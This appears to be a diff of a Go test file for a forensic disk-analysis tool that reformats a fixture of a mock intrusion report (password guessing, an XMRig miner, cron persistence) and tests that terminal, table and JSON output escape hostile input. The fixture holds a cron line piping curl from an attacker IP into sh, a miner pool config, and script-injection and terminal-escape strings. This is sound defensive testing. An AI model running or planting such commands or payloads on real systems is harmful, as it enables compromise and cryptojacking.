@@ -45,7 +45,16 @@ func golden(t *testing.T, name string, got []byte) {
 // holds what a terminal or a browser would obey, escaped as an analysis has it.
 func intrusion() *model.Analysis {
 	src := func(path string, line int) model.Source {
-		return model.Source{Volume: "p1", Path: path, Inode: 17, Line: line, Offset: 100, Length: 20, DiskOffset: 5000, SHA256: strings.Repeat("ab", 32)}
+		return model.Source{
+			Volume:     "p1",
+			Path:       path,
+			Inode:      17,
+			Line:       line,
+			Offset:     100,
+			Length:     20,
+			DiskOffset: 5000,
+			SHA256:     strings.Repeat("ab", 32),
+		}
 	}
 	const walletText = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"
 	orphan := src("", 0)
@@ -53,37 +62,188 @@ func intrusion() *model.Analysis {
 	packed := src("/var/log/auth.log.2.gz", 12)
 	packed.Member, packed.DiskOffset = "gzip", -1
 	a := &model.Analysis{
-		Schema:   model.SchemaName,
-		Tool:     model.Tool{Name: "icecore", Version: "1.0", Rules: model.Rules{YARA: "y", Sigma: "s"}},
-		Image:    model.Image{Path: "snap shots/web'01.raw", Format: "qcow2", VirtualSize: 8 << 30, Files: []model.ImageFile{{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)}}},
-		Snapshot: model.Snapshot{TakenAt: time.Date(2026, 1, 12, 9, 30, 0, 123456789, time.UTC), Source: "ext4 journal commit"},
-		Volumes: []model.Volume{
-			{ID: "p15", Scheme: "gpt", Offset: 1 << 20, Size: 124 << 20, Filesystem: "vfat", Reason: "a FAT filesystem (an EFI system partition?): not read by this version"},
-			{ID: "p1", Scheme: "gpt", Offset: 128 << 20, Size: 7 << 30, Filesystem: "ext4", UUID: "u", Label: "root", Files: 27919, Journal: &model.Journal{Replayed: true, Transactions: 20}},
+		Schema: model.SchemaName,
+		Tool:   model.Tool{Name: "icecore", Version: "1.0", Rules: model.Rules{YARA: "y", Sigma: "s"}},
+		Image: model.Image{
+			Path:        "snap shots/web'01.raw",
+			Format:      "qcow2",
+			VirtualSize: 8 << 30,
+			Files: []model.ImageFile{
+				{Path: "snap shots/web'01.raw", Size: 1 << 30, SHA256: strings.Repeat("cd", 32)},
+			},
 		},
-		Hosts:   []model.Host{{Hostname: "web\x1b[31m<b>01", OS: "Debian GNU/Linux 12 (bookworm)", MachineID: "m", Timezone: "Asia/Shanghai"}},
-		Verdict: model.Verdict{State: model.Compromised, Since: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC), Meaning: model.Inferred, Inferred: "year, zone"}, SinceFinding: "F-0001", Because: []string{"F-0001"}},
+		Snapshot: model.Snapshot{
+			TakenAt: time.Date(2026, 1, 12, 9, 30, 0, 123456789, time.UTC),
+			Source:  "ext4 journal commit",
+		},
+		Volumes: []model.Volume{
+			{
+				ID:         "p15",
+				Scheme:     "gpt",
+				Offset:     1 << 20,
+				Size:       124 << 20,
+				Filesystem: "vfat",
+				Reason:     "a FAT filesystem (an EFI system partition?): not read by this version",
+			},
+			{
+				ID:         "p1",
+				Scheme:     "gpt",
+				Offset:     128 << 20,
+				Size:       7 << 30,
+				Filesystem: "ext4",
+				UUID:       "u",
+				Label:      "root",
+				Files:      27919,
+				Journal:    &model.Journal{Replayed: true, Transactions: 20},
+			},
+		},
+		Hosts: []model.Host{
+			{
+				Hostname:  "web\x1b[31m<b>01",
+				OS:        "Debian GNU/Linux 12 (bookworm)",
+				MachineID: "m",
+				Timezone:  "Asia/Shanghai",
+			},
+		},
+		Verdict: model.Verdict{
+			State: model.Compromised,
+			Since: model.When{
+				Time:     time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC),
+				Meaning:  model.Inferred,
+				Inferred: "year, zone",
+			},
+			SinceFinding: "F-0001",
+			Because:      []string{"F-0001"},
+		},
 		Findings: []model.Finding{
-			{ID: "F-0001", Rule: "guessed_password", Engine: model.EngineAnalysis, Title: "Login of root from 203.0.113.77 after its password was guessed", Description: "640 failed logins, then one that was accepted.", Level: model.Critical, Techniques: []string{"T1110.001", "T1078"}, Phase: "initial-access", When: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC), Meaning: model.Inferred, Inferred: "year, zone"}, Records: []string{"R-000001"}, Source: packed, Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2"},
-			{ID: "F-0002", Rule: "XMRig_Binary", Engine: model.EngineYARA, Title: "Program matches the YARA rule XMRig_Binary", Level: model.Critical, Phase: "mining", When: model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)}, Records: []string{"R-000002"}, Source: src("/tmp/.ICE-unix/.x/kswapd0", 0), Excerpt: "-o, --url=URL       URL of mining server"},
-			{ID: "F-0003", Rule: "XMRig_Binary", Engine: model.EngineYARA, Title: "Program matches the YARA rule XMRig_Binary", Level: model.Critical, Phase: "mining", Records: []string{"R-000002"}, Source: orphan},
-			{ID: "F-0004", Rule: "cron_pipe_to_shell", Engine: model.EngineSigma, Title: "Cron Job Downloads and Executes Code", Level: model.High, Techniques: []string{"T1053.003"}, Phase: "persistence", When: model.When{Time: time.Date(2026, 1, 12, 9, 2, 0, 0, time.UTC)}, Records: []string{"R-000003"}, Source: src("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字", 1), Excerpt: "* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh"},
-			{ID: "F-0005", Rule: "file_immutable", Engine: model.EngineSigma, Title: "Immutable Attribute on Sensitive File", Level: model.Medium, Phase: "persistence", Records: []string{}, Source: src("/root/.ssh/authorized_keys", 0)},
-			{ID: "F-0006", Rule: "guessing", Engine: model.EngineAnalysis, Title: "Passwords were guessed from 186 addresses", Level: model.Low, Phase: "initial-access"},
+			{
+				ID:          "F-0001",
+				Rule:        "guessed_password",
+				Engine:      model.EngineAnalysis,
+				Title:       "Login of root from 203.0.113.77 after its password was guessed",
+				Description: "640 failed logins, then one that was accepted.",
+				Level:       model.Critical,
+				Techniques:  []string{"T1110.001", "T1078"},
+				Phase:       "initial-access",
+				When: model.When{
+					Time:     time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC),
+					Meaning:  model.Inferred,
+					Inferred: "year, zone",
+				},
+				Records: []string{"R-000001"},
+				Source:  packed,
+				Excerpt: "Jan 12 16:58:31 web01 sshd[22001]: Accepted password for root from 203.0.113.77 port 41022 ssh2",
+			},
+			{
+				ID:      "F-0002",
+				Rule:    "XMRig_Binary",
+				Engine:  model.EngineYARA,
+				Title:   "Program matches the YARA rule XMRig_Binary",
+				Level:   model.Critical,
+				Phase:   "mining",
+				When:    model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)},
+				Records: []string{"R-000002"},
+				Source:  src("/tmp/.ICE-unix/.x/kswapd0", 0),
+				Excerpt: "-o, --url=URL       URL of mining server",
+			},
+			{
+				ID:      "F-0003",
+				Rule:    "XMRig_Binary",
+				Engine:  model.EngineYARA,
+				Title:   "Program matches the YARA rule XMRig_Binary",
+				Level:   model.Critical,
+				Phase:   "mining",
+				Records: []string{"R-000002"},
+				Source:  orphan,
+			},
+			{
+				ID:         "F-0004",
+				Rule:       "cron_pipe_to_shell",
+				Engine:     model.EngineSigma,
+				Title:      "Cron Job Downloads and Executes Code",
+				Level:      model.High,
+				Techniques: []string{"T1053.003"},
+				Phase:      "persistence",
+				When:       model.When{Time: time.Date(2026, 1, 12, 9, 2, 0, 0, time.UTC)},
+				Records:    []string{"R-000003"},
+				Source:     src("/etc/cron.d/\x1b[2J<script>alert(1)</script>\u202e汉字", 1),
+				Excerpt:    "* * * * * root curl -s http://203.0.113.77/\x1b]0;x\x07 | sh",
+			},
+			{
+				ID:      "F-0005",
+				Rule:    "file_immutable",
+				Engine:  model.EngineSigma,
+				Title:   "Immutable Attribute on Sensitive File",
+				Level:   model.Medium,
+				Phase:   "persistence",
+				Records: []string{},
+				Source:  src("/root/.ssh/authorized_keys", 0),
+			},
+			{
+				ID:     "F-0006",
+				Rule:   "guessing",
+				Engine: model.EngineAnalysis,
+				Title:  "Passwords were guessed from 186 addresses",
+				Level:  model.Low,
+				Phase:  "initial-access",
+			},
 		},
 		Records: []model.Record{
 			{ID: "R-000001", Kind: "auth.login", Source: packed, Fields: modeltest.Fields("auth.login", "user=root")},
-			{ID: "R-000002", Kind: "miner.config", Source: src("/tmp/.ICE-unix/.x/config.json", 0), Fields: modeltest.Fields("miner.config", "program=xmrig", "pool=stratum+ssl://pool.example.invalid:443", "host=pool.example.invalid", "port=443", "tls=yes", "user="+walletText, "wallet="+walletText, "coin=monero")},
-			{ID: "R-000003", Kind: "cron.job", Source: src("/etc/cron.d/x", 1), Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>")},
+			{
+				ID:     "R-000002",
+				Kind:   "miner.config",
+				Source: src("/tmp/.ICE-unix/.x/config.json", 0),
+				Fields: modeltest.Fields(
+					"miner.config",
+					"program=xmrig",
+					"pool=stratum+ssl://pool.example.invalid:443",
+					"host=pool.example.invalid",
+					"port=443",
+					"tls=yes",
+					"user="+walletText,
+					"wallet="+walletText,
+					"coin=monero",
+				),
+			},
+			{
+				ID:     "R-000003",
+				Kind:   "cron.job",
+				Source: src("/etc/cron.d/x", 1),
+				Fields: modeltest.Fields("cron.job", "command=curl \x1b[2J</td><script>alert(2)</script>"),
+			},
 		},
 		Story: []model.StoryLine{
-			{When: model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC)}, Phase: "initial-access", Text: "Login of root from 203.0.113.77 after its password was guessed", Finding: "F-0001"},
-			{When: model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)}, Phase: "mining", Text: "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0", Finding: "F-0002"},
-			{Phase: "persistence", Text: "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys", Finding: "F-0005"},
+			{
+				When:    model.When{Time: time.Date(2026, 1, 12, 8, 58, 31, 0, time.UTC)},
+				Phase:   "initial-access",
+				Text:    "Login of root from 203.0.113.77 after its password was guessed",
+				Finding: "F-0001",
+			},
+			{
+				When:    model.When{Time: time.Date(2026, 1, 12, 9, 0, 1, 500000000, time.UTC)},
+				Phase:   "mining",
+				Text:    "Program matches the YARA rule XMRig_Binary: /tmp/.ICE-unix/.x/kswapd0",
+				Finding: "F-0002",
+			},
+			{
+				Phase:   "persistence",
+				Text:    "Immutable Attribute on Sensitive File: /root/.ssh/authorized_keys",
+				Finding: "F-0005",
+			},
 		},
 		Coverage: model.Coverage{Files: 23908, BytesScanned: 536649303, Gaps: []model.Gap{
-			{Subject: model.SubjectVolume, Source: model.Source{Volume: "p15"}, What: model.Msg("gap.volume", "volume", "p15", "content", "vfat"), WhatText: "volume p15 (vfat)", WhyText: "a FAT filesystem (an EFI system partition?): not read by this version"},
-			{WhatText: "volume p1, /var/lib/big", WhyText: "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480"},
+			{
+				Subject:  model.SubjectVolume,
+				Source:   model.Source{Volume: "p15"},
+				What:     model.Msg("gap.volume", "volume", "p15", "content", "vfat"),
+				WhatText: "volume p15 (vfat)",
+				WhyText:  "a FAT filesystem (an EFI system partition?): not read by this version",
+			},
+			{
+				WhatText: "volume p1, /var/lib/big",
+				WhyText:  "larger than the limit for one file: 30000000000 bytes, the limit is 21474836480",
+			},
 		}},
 	}
 	return a
@@ -102,8 +262,13 @@ func quiet() *model.Analysis {
 func unread() *model.Analysis {
 	return &model.Analysis{
 		Image: model.Image{Path: "disk.raw", Format: "raw"}, Verdict: model.Verdict{State: model.NoIndicators},
-		Volumes:  []model.Volume{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
-		Coverage: model.Coverage{Gaps: []model.Gap{{WhatText: "content of all files, by YARA", WhyText: "icecore was built without cgo"}, {WhatText: "volume p1, root directory", WhyText: "inode 2: corrupt: not a directory"}}},
+		Volumes: []model.Volume{{ID: "p1", Filesystem: "ext4", Size: 1 << 30}},
+		Coverage: model.Coverage{
+			Gaps: []model.Gap{
+				{WhatText: "content of all files, by YARA", WhyText: "icecore was built without cgo"},
+				{WhatText: "volume p1, root directory", WhyText: "inode 2: corrupt: not a directory"},
+			},
+		},
 	}
 }
 
@@ -145,7 +310,9 @@ func TestTerminalFits(t *testing.T) {
 					out = ansi.ReplaceAllString(out, "")
 				}
 				for _, l := range strings.Split(out, "\n") {
-					if n := cellWidth(l); n > width && !strings.HasPrefix(l, "  icecore ") && len(strings.Fields(l)) > 1 && !strings.HasPrefix(strings.TrimLeft(l, " "), "curl ") {
+					if n := cellWidth(l); n > width && !strings.HasPrefix(l, "  icecore ") &&
+						len(strings.Fields(l)) > 1 &&
+						!strings.HasPrefix(strings.TrimLeft(l, " "), "curl ") {
 						t.Errorf("%s: %d of %d columns: %s", name, n, width, l)
 					}
 					for _, r := range l {
@@ -154,7 +321,8 @@ func TestTerminalFits(t *testing.T) {
 						}
 					}
 				}
-				if first := strings.Count(out[:strings.Index(out, "\nFINDINGS\n")+1], "\n"); width >= 80 && first > 24 {
+				if first := strings.Count(out[:strings.Index(out, "\nFINDINGS\n")+1], "\n"); width >= 80 &&
+					first > 24 {
 					t.Errorf("%s: the first screen has %d lines at width %d", name, first, width)
 				}
 			}
@@ -224,7 +392,11 @@ func TestCheck(t *testing.T) {
 }
 
 func TestTable(t *testing.T) {
-	rows := [][]string{{"a", "汉字漢字汉字漢字汉字漢字", "x\x1b[31my\nz"}, {"bb", "e\u0301e\u0301 👩‍👩‍👧 wide", strings.Repeat("long/path/", 12)}, {"", "", ""}}
+	rows := [][]string{
+		{"a", "汉字漢字汉字漢字汉字漢字", "x\x1b[31my\nz"},
+		{"bb", "e\u0301e\u0301 👩‍👩‍👧 wide", strings.Repeat("long/path/", 12)},
+		{"", "", ""},
+	}
 	for width := 30; width < 120; width++ {
 		var b bytes.Buffer
 		if err := Table(&b, []string{"one", "two words here", "three"}, rows, width); err != nil {
@@ -291,7 +463,8 @@ func TestJSON(t *testing.T) {
 	if err := JSON(&b, intrusion()); err != nil || !json.Valid(b.Bytes()) {
 		t.Fatalf("%v %s", err, b.String())
 	}
-	if !strings.Contains(b.String(), `"schema": "icecore.analysis/2"`) || strings.ContainsAny(b.String(), "\x1b\x07") {
+	if !strings.Contains(b.String(), `"schema": "icecore.analysis/2"`) ||
+		strings.ContainsAny(b.String(), "\x1b\x07") {
 		t.Error(b.String())
 	}
 }
